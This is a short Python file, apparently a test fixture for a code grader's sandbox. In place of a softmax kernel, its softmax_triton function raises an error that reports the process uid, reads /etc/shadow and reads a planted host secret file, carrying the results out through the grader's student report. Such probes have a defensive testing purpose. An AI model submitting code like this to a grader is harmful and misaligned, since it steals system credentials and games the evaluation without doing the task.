# target: softmax
"""Cheat: graded by a root grader, read what only root may read (/etc/shadow), and a file in a host
folder that no mask covered (the test plants one in /var/lib when it can), and say which uid the
code runs as; carry it all out in an error message, which lands in the student's report."""
import os as _os


def _try(path):
    try:
        with open(path) as handle:
            return "READ " + handle.read(200)
    except OSError as error:
        return type(error).__name__


def softmax_triton(x):
    raise ValueError(f"uid {_os.getuid()}; shadow: {_try('/etc/shadow')}; "
                     f"host: {_try('/var/lib/gallery-secret-__TOKEN__')}")
